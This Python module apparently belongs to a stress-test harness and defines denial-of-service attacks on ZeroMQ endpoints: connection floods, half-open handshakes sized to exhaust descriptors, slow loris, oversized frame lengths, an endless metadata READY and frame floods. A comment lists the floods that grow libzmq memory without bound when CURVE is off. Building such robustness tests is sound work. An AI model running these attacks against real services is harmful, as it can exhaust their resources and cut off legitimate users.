"""What a stranger without any key can do to a socket, for as long as he likes. The campaign `hostile` sets them on.

Each of KINDS is a function of (endpoint, socket type, `going`): it goes on while going() is true, and returns how many
octets it has sent. What it opens it closes.
"""
import collections
import errno
import random
import resource
import socket
import struct
import time

import bombs
import zmtp
from proxy import dial, parse

FILES_MAX = 512           # of the victims; so half-open handshakes come to twice as many
CONNECTS = 10000
opened = collections.Counter()


def open_many(endpoint, count, going, first=b""):
    """Up to `count` connections that say `first`. Those that find no room in the queue are tried once more."""
    family, address = parse(endpoint)
    held = []
    while len(held) < count and going():
        made = socket.socket(family, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        if made.connect_ex(address) == errno.EAGAIN:  # a full queue, of a path
            time.sleep(0.001)
            made.connect_ex(address)
        try:
            made.send(first)
        except OSError:
            pass
        held.append(made)
    opened["connections"] += len(held)
    return held


def close_all(held):
    for one in held:
        one.close()


def connects(endpoint, _, going):
    """In and out, without a word."""
    count = 0
    while going() and count < CONNECTS:
        close_all(open_many(endpoint, 1, going))
        count += 1
    return 0


def connects_held(endpoint, _, going):
    """10,000 connections, or as many as fit, all kept."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    held = open_many(endpoint, min(CONNECTS, hard - 256), going)
    while going():
        time.sleep(0.01)
    close_all(held)
    return 0


def half_open(endpoint, _, going):
    """Twice as many begun handshakes as the victim has descriptors, begun again when it ends them."""
    sent = 0
    while going():
        held = open_many(endpoint, 2 * FILES_MAX, going, zmtp.greeting()[:40])
        sent += 40 * len(held)
        end = time.monotonic() + 2.5
        while going() and time.monotonic() < end:
            time.sleep(0.01)
        close_all(held)
    return sent


def slow_loris(endpoint, socket_type, going):
    """An octet a second: of the handshake on most connections, of a frame on the rest."""
    text = zmtp.greeting() + zmtp.ready(socket_type)
    held = open_many(endpoint, 100, going)
    for _ in range(10):
        try:
            late = zmtp.connect(endpoint, socket_type)
            late.sendall(bytes([zmtp.LONG]) + struct.pack(">Q", 1 << 20))
            held.append(late)
        except OSError:
            pass
    sent, due = 0, time.monotonic()
    for at in range(len(text)):
        while going() and time.monotonic() < due:
            time.sleep(0.01)
        if not going():
            break
        due += 1.0
        for one in held:
            try:
                sent += one.send(text[at:at + 1])
            except OSError:
                pass
    close_all(held)
    return sent


def pouring(chunk, handshake=True):
    """`chunk` over and over, on a new connection whenever the old one is ended."""
    def attack(endpoint, socket_type, going):
        sent = 0
        while going():
            try:
                one = zmtp.connect(endpoint, socket_type) if handshake else dial(endpoint)
            except OSError:
                continue
            one.settimeout(0.2)
            try:
                while going():
                    sent += one.send(chunk)
            except OSError:
                pass
            one.close()
        return sent
    return attack


def opening(first, handshake=True):
    """`first` on a new connection each time."""
    def attack(endpoint, socket_type, going):
        sent = 0
        while going():
            try:
                one = zmtp.connect(endpoint, socket_type) if handshake else dial(endpoint)
                one.settimeout(0.2)
                one.sendall(first(socket_type) if callable(first) else first)
                sent += 1
            except OSError:
                continue
            one.close()
        return sent
    return attack


def metadata(endpoint, socket_type, going):
    """A READY of 2^62 octets, properties without end."""
    start = zmtp.greeting() + bytes([zmtp.COMMAND | zmtp.LONG]) + struct.pack(">Q", 1 << 62) + b"\x05READY"
    properties = (b"\x01x" + struct.pack(">I", 4) + b"text") * 4000
    sent = 0
    while going():
        try:
            one = dial(endpoint)
            one.settimeout(0.2)
            one.sendall(start)
            while going():
                sent += one.send(properties)
        except OSError:
            pass
    return sent


def garbage(endpoint, socket_type, going):
    """All that zmtp.py can say badly, in any order."""
    listed = zmtp.attacks(random.randrange(1 << 32), socket_type)
    while going():
        try:
            random.choice(listed)[1](endpoint)
        except OSError:
            pass
    return 0


def long_frame(length):
    return bytes([zmtp.LONG]) + struct.pack(">Q", length) + b"x" * 1000


KINDS = {
    "connects": connects,
    "connects held": connects_held,
    "half-open": half_open,
    "slow loris": slow_loris,
    "flood": pouring(zmtp.frame(b"f" * 200) * 300),
    "zero length": pouring(zmtp.frame(b"") * 30000),
    "more": pouring(zmtp.frame(b"p" * 200, zmtp.MORE) * 300),
    "parts": pouring((zmtp.frame(b"p", zmtp.MORE) * 2 + zmtp.frame(b"p")) * 5000),
    "8 EiB": opening(long_frame(1 << 63)),
    "2^64-1": opening(long_frame((1 << 64) - 1)),
    "metadata": metadata,
    "long routing id": opening(lambda kind: zmtp.greeting() + zmtp.ready(kind, b"i" * 65000) + zmtp.frame(b"x"), False),
    "garbage": garbage,
    "bombs": pouring(b"".join(map(zmtp.frame, bombs.frames()))),
}
# Where libzmq itself keeps what was sent, for as long as the stranger stays: there is no bound without CURVE.
UNBOUNDED = ("flood", "zero length", "more", "parts", "bombs")
